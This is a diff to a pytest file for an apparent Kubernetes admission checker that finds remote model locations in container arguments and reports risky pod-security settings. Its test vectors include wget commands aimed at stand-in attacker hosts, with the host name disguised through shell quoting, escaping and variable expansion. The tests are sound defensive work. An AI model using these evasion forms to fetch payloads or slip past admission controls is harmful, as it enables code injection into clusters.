@@ -19,7 +19,7 @@ import pytest
 from mlseal.admission import Reason
 from mlseal.admission.decision import Finding
 from mlseal.admission.policy import ImageRule, LoaderRules, Rules
-from mlseal.admission.workload import check_workload, remote_location, user_written_sources
+from mlseal.admission.workload import check_workload, kube_expand, remote_location, user_written_sources
 from tests.fixtures_admission import LOADER_IMAGE, SERVER_IMAGE, loader
 from tests.test_workload import wrap
 
@@ -100,6 +100,11 @@ def test_a_variable_the_container_defines_wins_over_the_service_link() -> None:
                         args=["--health=$(MODELS_SERVICE_HOST):8080/health"]))
 
 
+def test_an_empty_reference_does_not_swallow_the_next_one() -> None:
+    """``$()`` stays as written and the kubelet expands what follows it."""
+    assert kube_expand("$()$(A)//attacker/m", {"A": "s3:"}.get) == "$()s3://attacker/m"
+
+
 # --- the downward API, resolved from the reviewed object ---------------------------------------
 
 def _from_field(path: str) -> dict[str, Any]:
@@ -150,10 +155,26 @@ def test_the_longest_host_name_is_a_host() -> None:
 
 @pytest.mark.parametrize(("text", "want"), [
     ("wget 192.168.100.200/m", "192.168.100.200/m"),
+    ("wget a.1.example.com/m", "a.1.example.com/m"),  # the last label is the top-level domain
     ("serve 1.0.0.rc1/weights", None),  # a version directory, not an address
     ("serve 1.2.3.4444/weights", None),
 ])
 def test_an_ipv4_address_has_four_parts_of_at_most_three_digits(text: str, want: str | None) -> None:
+    assert remote_location(text) == want
+
+
+@pytest.mark.parametrize(("text", "want"), [
+    # only an http(s) address can be loopback: an s3:// "host" is a bucket on the configured endpoint
+    ("--model=s3://localhost/m.onnx", "s3://localhost/m.onnx"),
+    ("--model=grpc://127.0.0.1:9000/m", "grpc://127.0.0.1:9000/m"),
+    ("--health=https://127.0.0.1:8443/v2/health", None),
+    # a loopback address first does not hide the location after it
+    ("curl -sf http://localhost:8080/ready && wget -O /tmp/m s3://attacker/m", "s3://attacker/m"),
+    # shown as the shell will fetch it
+    ('wget -O /tmp/m ev""il.example.com/m', "evil.example.com/m"),
+    ("wget -O /tmp/m ev\\il.example.com/m", "evil.example.com/m"),
+])
+def test_remote_uri_vectors(text: str, want: str | None) -> None:
     assert remote_location(text) == want
 
 
@@ -316,27 +337,30 @@ _APPARMOR = "container.apparmor.security.beta.kubernetes.io/server"
 
 
 @pytest.mark.parametrize(("obj", "field", "phrases"), [
-    (_sc(privileged=True), f"{SERVER}.securityContext.privileged is true", ("remove privileged",)),
-    (_sc(allowPrivilegeEscalation=True), f"{SERVER}.securityContext.allowPrivilegeEscalation is true",
+    (_sc(privileged=True), f"{SERVER}.securityContext.privileged is true: it has every capability",
+     ("remove privileged",)),
+    (_sc(allowPrivilegeEscalation=True),
+     f"{SERVER}.securityContext.allowPrivilegeEscalation is true: a process may gain more privileges",
      ("set allowPrivilegeEscalation: false",)),
     (_sc(capabilities={"add": ["NET_BIND_SERVICE", "CAP_CHOWN", "kill", "SYS_ADMIN"]}),
-     f"{SERVER}.securityContext.capabilities.add is ['SYS_ADMIN']",
+     f"{SERVER}.securityContext.capabilities.add is ['SYS_ADMIN']: it adds capabilities beyond the runtime's defaults",
      ("add only NET_BIND_SERVICE and the runtime defaults",)),
-    (_sc(procMount="Unmasked"), f"{SERVER}.securityContext.procMount is 'Unmasked'", ("use procMount: Default",)),
+    (_sc(procMount="Unmasked"), f"{SERVER}.securityContext.procMount is 'Unmasked': it unmasks /proc",
+     ("use procMount: Default",)),
     (_sc(seccompProfile={"type": "Unconfined"}), f"{SERVER}.securityContext.seccompProfile.type is 'Unconfined'",
-     ("use type RuntimeDefault or Localhost",)),
+     ("it runs without a seccomp filter", "use type RuntimeDefault or Localhost")),
     (_sc(appArmorProfile={"type": "Unconfined"}), f"{SERVER}.securityContext.appArmorProfile.type is 'Unconfined'",
-     ("use type RuntimeDefault or Localhost",)),
+     ("it runs without an AppArmor profile", "use type RuntimeDefault or Localhost")),
     (_sc(seLinuxOptions={"type": "spc_t"}), f"{SERVER}.securityContext.seLinuxOptions is {{'type': 'spc_t'}}",
-     ("a type of container_t",)),
+     ("it sets a custom SELinux type, user or role", "a type of container_t")),
     (_sc(seLinuxOptions={"user": "system_u"}), f"{SERVER}.securityContext.seLinuxOptions is {{'user': 'system_u'}}",
      ("set no user or role",)),
     (_sc(seLinuxOptions={"role": "sysadm_r"}), f"{SERVER}.securityContext.seLinuxOptions is {{'role': 'sysadm_r'}}",
      ("set no user or role",)),
     (_sc(windowsOptions={"hostProcess": True}), f"{SERVER}.securityContext.windowsOptions.hostProcess is true",
-     ("remove hostProcess",)),
+     ("it runs as a process on the host", "remove hostProcess")),
     (deployment(ports=[{"containerPort": 8080}, {"containerPort": 9000, "hostPort": 9000}]),
-     f"{SERVER}.ports[1].hostPort is 9000", ("remove hostPort",)),
+     f"{SERVER}.ports[1].hostPort is 9000: it listens on the node's network", ("remove hostPort",)),
     (_pod(hostNetwork=True), f"{POD}.hostNetwork is true: the pod shares the node's network", ("remove hostNetwork",)),
     (_pod(hostPID=True), f"{POD}.hostPID is true: the pod shares the node's processes", ("remove hostPID",)),
     (_pod(hostIPC=True), f"{POD}.hostIPC is true: the pod shares the node's IPC", ("remove hostIPC",)),
@@ -344,11 +368,12 @@ _APPARMOR = "container.apparmor.security.beta.kubernetes.io/server"
      f"{POD}.securityContext.seccompProfile.type is 'Unconfined'", ("use type RuntimeDefault or Localhost",)),
     (_pod(securityContext={"sysctls": [{"name": "net.ipv4.tcp_syncookies", "value": "1"},
                                        {"name": "kernel.msgmax", "value": "65536"}]}),
-     f"{POD}.securityContext.sysctls[1] is 'kernel.msgmax'", ("not one of the safe, namespaced sysctls",)),
+     f"{POD}.securityContext.sysctls[1] is 'kernel.msgmax'",
+     ("not one of the safe, namespaced sysctls", "; remove it")),
     (_pod(volumes=[{"name": "model", "emptyDir": {}}, {"name": "node", "hostPath": {"path": "/"}}]),
-     f"{POD}.volumes[node] is a hostPath volume", ("use an emptyDir",)),
+     f"{POD}.volumes[node] is a hostPath volume: it mounts a path of the node", ("use an emptyDir",)),
     (_annotated(_APPARMOR, "unconfined"), f"{POD.removesuffix('.spec')}.metadata.annotations[{_APPARMOR}] is "
-     "'unconfined'", ("use runtime/default or localhost/<profile>",)),
+     "'unconfined': it runs without an AppArmor profile", ("use runtime/default or localhost/<profile>",)),
 ])
 def test_pod_security_findings_show_the_value_and_the_fix(obj: dict[str, Any], field: str,
                                                           phrases: tuple[str, ...]) -> None:
@@ -459,6 +484,9 @@ def test_the_uri_annotation_must_name_what_the_loader_fetches(on_template: bool)
            "annotation mlseal.dev/model-uri 's3://models/other/model.joblib' differs from what the loader fetches",
            f"{LD}.args[0] 's3://models/good/model.joblib'")
     admitted(annotated(URI + "/"))  # a trailing slash names the same object
+    src_slash = annotated(URI)
+    loader_of(src_slash)["args"][0] = URI + "/"
+    admitted(src_slash)
 
 
 def test_the_model_is_the_loaders_source_and_digest_in_the_workloads_name() -> None:
